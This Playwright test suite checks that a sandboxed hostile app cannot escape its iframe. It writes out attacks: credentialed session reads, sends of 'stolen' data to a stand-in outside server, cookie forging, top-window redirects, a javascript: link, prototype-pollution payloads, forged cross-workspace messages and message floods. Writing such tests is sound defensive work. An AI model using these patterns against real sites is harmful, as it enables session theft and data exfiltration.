import { type Browser, type BrowserContext, expect, type Frame, type Page, test } from "@playwright/test";
import type { AppDocument, DocumentPageView } from "@second/contracts";
import { type HostAnswer, type HostileWindow, hostileApp } from "./support/hostile-app.ts";
import { type Loopback, openLoopback } from "./support/loopback.ts";
import { appFrame } from "./support/people.ts";
import { type Insider, quickStart } from "./support/quick-start.ts";
import { type ScriptedProduct, startScriptedProduct } from "./support/scripted-product.ts";

type App = Awaited<ReturnType<Insider["createApp"]>>;

interface Scene {
  context: BrowserContext;
  page: Page;
  frame: Frame;
  insider: Insider;
  app: App;
  /** Someone else's workspace with one document, which must stay as it is. */
  victim: { insider: Insider; app: App; docId: string };
  /** Uncaught errors of the host page, without those of the app. */
  hostErrors(): Promise<string[]>;
}

let product: ScriptedProduct;
let stranger: Loopback;
let scene: Scene;
let contexts: BrowserContext[] = [];

test.beforeAll(async () => {
  product = await startScriptedProduct();
  stranger = await openLoopback((_request, response) => {
    response.writeHead(200, { "access-control-allow-origin": "*" }).end("taken");
  });
  // Whoever calls it is noticed.
  await fetch(`${stranger.url}/called`);
  expect(stranger.requests).toEqual(["GET /called"]);
});
test.afterAll(async () => {
  await product?.stop();
  await stranger?.close();
});
test.beforeEach(async ({ browser }) => {
  stranger.requests.length = 0;
  scene = await openScene(browser);
});
test.afterEach(async () => {
  const errors = await scene.hostErrors();
  const notes = await documents(scene.victim.insider, scene.victim.app);
  for (const context of contexts) await context.close();
  contexts = [];
  expect(errors).toEqual([]);
  expect(notes.map(({ text, _version }) => [text, _version])).toEqual([["private", 1]]);
  expect(stranger.requests).toEqual([]);
});

async function openScene(browser: Browser): Promise<Scene> {
  const newContext = async () => {
    const context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
    contexts.push(context);
    return context;
  };
  const run = crypto.randomUUID().slice(0, 8);
  const grace = await quickStart(await newContext(), product.url, {
    name: "Grace",
    email: `grace-${run}@example.com`,
    workspace: `Grove ${run}`,
  });
  const theirs = await grace.createApp("Notes");
  const { doc } = await grace.call<{ doc: AppDocument }>("POST", `${theirs.path}/data?side=draft`, {
    collection: "notes",
    data: { text: "private" },
  });

  const context = await newContext();
  const insider = await quickStart(context, product.url, {
    name: "Ada",
    email: `ada-${run}@example.com`,
    workspace: `Alder ${run}`,
  });
  const app = await insider.createApp("A useful tool");
  product.worker.next(async (stage) => {
    await stage.build("A useful tool", hostileApp(stranger.url));
    stage.end("completed");
  });
  const page = await context.newPage();
  await page.addInitScript(() => {
    if (window.top !== window) return;
    const errors: string[] = [];
    Object.assign(window, { hostErrors: errors });
    addEventListener("error", ({ message }) => errors.push(message));
    addEventListener("unhandledrejection", ({ reason }) => errors.push(String(reason)));
  });
  await page.goto(app.page);
  return {
    context,
    page,
    frame: await liveFrame(page),
    insider,
    app,
    victim: { insider: grace, app: theirs, docId: doc._id },
    hostErrors: () => page.evaluate(() => (window as unknown as { hostErrors: string[] }).hostErrors),
  };
}

/** The app's frame once its script runs and the host answers it. */
async function liveFrame(page: Page): Promise<Frame> {
  let frame: Frame | undefined;
  await expect(async () => {
    frame = await appFrame(page);
    expect(await ask(frame, { type: "second:data:list", collection: "notes" })).toMatchObject({ docs: [] });
  }).toPass({ timeout: 30_000 });
  if (!frame) throw new Error("The app's frame is not there.");
  return frame;
}

const ask = (frame: Frame, message: object): Promise<HostAnswer | null> =>
  frame.evaluate((asked) => (window as unknown as HostileWindow).ask(asked), message);

async function documents(insider: Insider, app: App) {
  const path = `${app.path}/data?side=draft&collection=notes`;
  return (await insider.call<DocumentPageView>("GET", path)).docs;
}

/** The shell answers a click within a second. */
async function expectResponsive(page: Page): Promise<void> {
  for (const [tab, list] of [
    ["Versions", page.getByRole("list", { name: "Versions" })],
    ["Preview", page.locator("iframe:not([aria-hidden=true])")],
  ] as const) {
    await page.getByRole("tab", { name: tab }).click({ timeout: 1_000 });
    await expect(list).toBeVisible({ timeout: 1_000 });
  }
}

test("[PRE-3] a hostile app reads nothing of its viewer and reaches nobody", async () => {
  const { page, frame, insider, app, context } = scene;
  const outcomes = await frame.evaluate(
    async ({ host, foreign }) => {
      const attempt = async (attack: () => unknown): Promise<unknown> => {
        try {
          return await attack();
        } catch (error) {
          return `refused: ${(error as Error).name}`;
        }
      };
      const viaXhr = (url: string) =>
        new Promise((resolve) => {
          const request = new XMLHttpRequest();
          request.withCredentials = true;
          request.onload = () => resolve(request.responseText);
          request.onerror = () => resolve("refused: error");
          request.open("GET", url);
          request.send();
        });
      const opens = (open: () => EventTarget) =>
        new Promise((resolve, reject) => {
          try {
            const connection = open();
            connection.addEventListener("open", () => resolve("open"));
            connection.addEventListener("error", () => resolve("refused: error"));
          } catch (error) {
            reject(error);
          }
        });
      const session = `${host}/api/auth/session`;
      const socket = session.replace("http", "ws");
      return {
        fetch: await attempt(async () => (await fetch(session, { credentials: "include" })).text()),
        fetchBlind: await attempt(() => fetch(foreign, { mode: "no-cors", method: "POST", body: "stolen" })),
        xhr: await attempt(() => viaXhr(session)),
        webSocket: await attempt(() => opens(() => new WebSocket(socket))),
        webSocketOut: await attempt(() => opens(() => new WebSocket(foreign.replace("http", "ws")))),
        events: await attempt(() => opens(() => new EventSource(session, { withCredentials: true }))),
        cookie: await attempt(() => document.cookie),
        setCookie: await attempt(() => {
          // biome-ignore lint/suspicious/noDocumentCookie: that it is refused is what is tested
          document.cookie = "second_session=forged; path=/";
        }),
        parentDocument: await attempt(() => parent.document.body.textContent),
        parentStorage: await attempt(() => parent.localStorage.length),
        topAddress: await attempt(() => top?.location.href),
        database: await attempt(() => indexedDB.open("notes")),
        caches: await attempt(() => caches.open("notes")),
        worker: await attempt(() => navigator.serviceWorker.register("./app.js")),
        evaluated: await attempt(
          () =>
            new Promise((resolve, reject) => {
              // A timer's text is compiled under the app's own policy, not the debugger's.
              addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
                if (effectiveDirective === "script-src") reject(new EvalError("policy"));
              });
              setTimeout("window.evaluated = true", 0);
              setTimeout(() => resolve("evaluated" in window), 500);
            }),
        ),
      };
    },
    { host: product.url, foreign: stranger.url },
  );
  for (const [attack, outcome] of Object.entries(outcomes))
    expect(`${attack} ${outcome}`).toMatch(/^\w+ refused: /);

  const stored = await frame.evaluate(
    async ({ foreign, host }) => {
      localStorage.setItem("from the app", "1");
      navigator.sendBeacon(`${foreign}/beacon`, "stolen");
      for (const address of [`${foreign}/image?stolen`, `${host}/api/auth/session`]) {
        const image = new Image();
        await new Promise((resolve) => {
          image.onload = resolve;
          image.onerror = resolve;
          image.src = address;
        });
      }
      document.querySelector("form")?.submit();
      const own = document.createElement("form");
      own.method = "post";
      own.action = `${host}/api/auth/logout`;
      document.body.append(own);
      own.submit();
      return localStorage.getItem("from the app");
    },
    { foreign: stranger.url, host: product.url },
  );
  expect(stored).toBe("1");
  expect(await page.evaluate(() => localStorage.getItem("from the app"))).toBeNull();
  expect((await context.cookies()).map(({ value }) => value)).not.toContain("forged");
  await expectResponsive(page);
  expect(page.url()).toBe(app.page);
  // Still signed in, and nothing was written.
  expect(await documents(insider, app)).toEqual([]);
});

test("[PRE-3] what a page of an opaque origin asks of the API is refused, cookie or not", async () => {
  const { context, insider, app } = scene;
  for (const origin of ["null", stranger.url]) {
    const answer = await context.request.post(`${product.url}${app.path}/data?side=draft`, {
      headers: { origin },
      data: { collection: "notes", data: { text: "forged" } },
    });
    expect(answer.status()).toBe(403);
  }
  expect(await documents(insider, app)).toEqual([]);
});

test("[PRE-4] a hostile app leads neither the page nor itself away", async () => {
  const { page, app, context } = scene;
  const popups = await scene.frame.evaluate((foreign) => {
    const opened = [window.open(`${foreign}/popup`), window.open("about:blank")].map((each) => each === null);
    for (const lead of [
      () => top?.location.assign(`${foreign}/top`),
      () => parent.location.replace(`${foreign}/parent`),
      () => window.open(`${foreign}/named`, "_top"),
      () => Object.assign(top?.location ?? {}, { href: `${foreign}/href` }),
      () => top?.close(),
    ]) {
      try {
        lead();
      } catch {
        // That it throws is one of the two ways of being refused.
      }
    }
    const link = document.createElement("a");
    link.href = `${foreign}/link`;
    link.target = "_top";
    link.textContent = "Win a prize";
    document.body.append(link);
    link.click();
    return opened;
  }, stranger.url);
  expect(popups).toEqual([true, true]);

  // A link that leads out asks the person first.
  const dialog = page.getByRole("dialog");
  await expect(dialog.getByText(`${stranger.url}/link`)).toBeVisible();
  await dialog.getByRole("button", { name: "Cancel" }).click();

  for (const address of [`${stranger.url}/away`, `${product.url}/api/auth/session`, "data:text/html,away"]) {
    const frame = await liveFrame(page);
    await frame.evaluate((to) => {
      setTimeout(() => location.assign(to), 0);
    }, address);
    // Whatever came up in its place is gone again: the host has loaded the app anew.
    await expect.poll(() => frame.isDetached()).toBe(true);
    await expect(await liveFrame(page).then((each) => each.getByRole("heading"))).toHaveText("Useful tool");
  }
  expect(context.pages()).toHaveLength(1);
  expect(page.url()).toBe(app.page);
  await expectResponsive(page);
});

test("[DATA-68] [PRE-5] an app that reloads itself comes back at its last route, with a new bridge", async () => {
  const { page, frame } = scene;
  await frame.evaluate(() => history.pushState(null, "", "/orders?state=open#late"));
  await expect(page.getByText("/orders?state=open#late")).toBeVisible();
  await frame.evaluate(() => {
    (window as unknown as HostileWindow).say({
      type: "second:data:subscribe",
      requestId: "before",
      subscriptionId: "s1",
      collection: "notes",
    });
    setTimeout(() => location.reload(), 0);
  });
  await expect.poll(() => frame.isDetached()).toBe(true);
  const again = await liveFrame(page);
  expect(await again.evaluate(() => location.pathname + location.search + location.hash)).toBe(
    "/orders?state=open#late",
  );
  // The name is free again: subscriptions end with the load that made them.
  const subscribed = { type: "second:data:subscribe", subscriptionId: "s1", collection: "notes" };
  expect(await ask(again, subscribed)).toMatchObject({ docs: [] });
  expect((await ask(again, subscribed))?.error?.code).toBe("request.invalid");
});

test("[DATA-67] [DATA-68] forged messages change nothing and name nobody else's data", async () => {
  const { page, frame, insider, app, victim } = scene;
  const insert = { type: "second:data:insert", collection: "notes", data: { text: "forged" } };
  const foreign = { appId: victim.app.id, workspaceId: victim.insider.workspaceId };
  const bad = [
    { ...insert, ...foreign },
    { ...insert, side: "published" },
    { ...insert, userId: "usr_someone" },
    { ...insert, collection: "../apps" },
    { ...insert, collection: "__proto__" },
    { ...insert, data: "text" },
    { type: "second:data:query", collection: "notes", limit: -1 },
    { type: "second:data:query", collection: "notes", ...foreign },
    { type: "second:data:update", collection: "notes", docId: victim.docId, data: {}, ...foreign },
    { type: "second:data:list" },
    { type: "second:admin:everything" },
    { type: "__proto__" },
    { type: "constructor" },
    { type: "second:hello", protocol: 99, sdkVersion: "x" },
    { type: "second:hello", protocol: "2" },
  ];
  for (const message of bad)
    expect([message, (await ask(frame, message))?.error?.code]).toEqual([message, "request.invalid"]);

  await test.step("ids of others' documents and keys of prototypes", async () => {
    const other = { type: "second:data:doc", collection: "notes", docId: victim.docId };
    expect((await ask(frame, other))?.doc).toBeNull();
    const polluted = await frame.evaluate(async () => {
      const data = JSON.parse(
        '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}',
      );
      const { ask: send } = window as unknown as HostileWindow;
      const answer = await send({ type: "second:data:insert", collection: "notes", data });
      const patch = await send({ type: "second:data:update", collection: "notes", docId: "__proto__", data });
      return [answer?.error?.code, patch?.error !== undefined];
    });
    expect(polluted).toEqual(["document.invalid", true]);
    expect(await page.evaluate(() => "polluted" in {})).toBe(false);
    const { requestId } = (await ask(frame, {
      type: "second:data:list",
      collection: "notes",
      requestId: "__proto__",
    })) ?? {
      requestId: "nobody waits for this one",
    };
    expect(requestId).toBe("nobody waits for this one");
    await expect
      .poll(() =>
        frame.evaluate(() =>
          (window as unknown as HostileWindow).heard.some((answer) => answer.requestId === "__proto__"),
        ),
      )
      .toBe(true);
  });

  await test.step("other windows that claim to be the app", async () => {
    await page.evaluate((message) => {
      const forged = { source: "second-app", requestId: "page", ...message };
      window.postMessage(forged, "*");
      // With the frame's origin, but not its window.
      window.dispatchEvent(new MessageEvent("message", { data: forged, origin: "null" }));
    }, insert);
    const spoke = await frame.evaluate(async () => {
      const script = document.querySelector<HTMLScriptElement>("script[src$='app.js']");
      const inner = document.createElement("iframe");
      const heard = new Promise((resolve) =>
        addEventListener("message", ({ data }) => data === "child spoke" && resolve("spoke")),
      );
      inner.srcdoc = `<script src="${script?.src.replace("app.js", "child.js")}"></script>`;
      document.body.append(inner);
      return Promise.race([heard, new Promise((resolve) => setTimeout(resolve, 1500, "never spoke"))]);
    });
    expect(spoke).toBe("spoke");
    const answered = await frame.evaluate(() =>
      (window as unknown as HostileWindow).heard.filter(({ requestId }) =>
        ["page", "child"].includes(requestId ?? ""),
      ),
    );
    expect(answered).toEqual([]);
  });

  await test.step("shapes that are no messages", async () => {
    await frame
      .evaluate(() => {
        const loop: Record<string, unknown> = {
          source: "second-app",
          type: "second:data:list",
          requestId: "loop",
        };
        loop.collection = loop;
        const shapes = [
          null,
          1,
          "text",
          [],
          loop,
          new Map([[1, 2]]),
          new Date(),
          new Uint8Array(9),
          { source: "second-app" },
        ];
        for (const shape of shapes) parent.postMessage(shape, "*");
        const { say } = window as unknown as HostileWindow;
        say({ type: "second:data:list", collection: "notes", requestId: 7 });
        say({ type: "second:data:list", collection: "notes", requestId: "x".repeat(65) });
        say({ type: "second:preview:open-link", href: "javascript:alert(1)" });
        say({ type: "second:preview:route", route: { toString: () => "never" } as unknown });
      })
      .catch(() => undefined);
  });

  expect(await documents(insider, app)).toEqual([]);
  expect((await ask(frame, { ...insert, data: { text: "mine" } }))?.error).toBeUndefined();
  expect((await documents(insider, app)).map(({ text }) => text)).toEqual(["mine"]);
  await expectResponsive(page);
});

test("[DATA-67] [PRE-6] floods of messages leave the page quick", async () => {
  const { page, frame, app } = scene;
  await test.step("20,000 messages", async () => {
    await frame.evaluate(() => {
      const { say } = window as unknown as HostileWindow;
      for (let count = 0; count < 5_000; count += 1) {
        say({ type: "second:preview:route", route: `/${count}` });
        say({ type: "second:data:list", requestId: `bad-${count}` });
        say({ type: "second:preview:error", kind: "error", message: "x".repeat(4000), route: "/" });
        say({ type: "second:unknown" });
      }
    });
    await expectResponsive(page);
  });

  await test.step("messages of 3 MiB", async () => {
    const again = await liveFrame(page);
    const big = "x".repeat(3 * 1024 * 1024);
    const answer = again.evaluate(async (text) => {
      const { ask: send, say } = window as unknown as HostileWindow;
      for (let count = 0; count < 20; count += 1) say({ type: "second:preview:console", level: "log", text });
      const insert = { type: "second:data:insert", collection: "notes", data: { text } };
      for (let count = 0; count < 20; count += 1) say({ ...insert, requestId: `big-${count}` });
      return (await send(insert))?.error?.code;
    }, big);
    expect(await answer).toBe("request.invalid");
    await expectResponsive(page);
  });

  await test.step("500 requests at once", async () => {
    const again = await liveFrame(page);
    const codes = await again.evaluate(async () => {
      const { ask: send } = window as unknown as HostileWindow;
      const query = { type: "second:data:query", collection: "notes" };
      const answers = await Promise.all(Array.from({ length: 500 }, () => send(query)));
      return answers.map((answer) => (answer === null ? "none" : (answer.error?.code ?? "ok")));
    });
    expect(new Set(codes)).toEqual(new Set(["ok", "request.rate_limited"]));
    expect(codes.filter((code) => code === "ok").length).toBeGreaterThanOrEqual(100);
    await expectResponsive(page);
  });
  expect(page.url()).toBe(app.page);
});
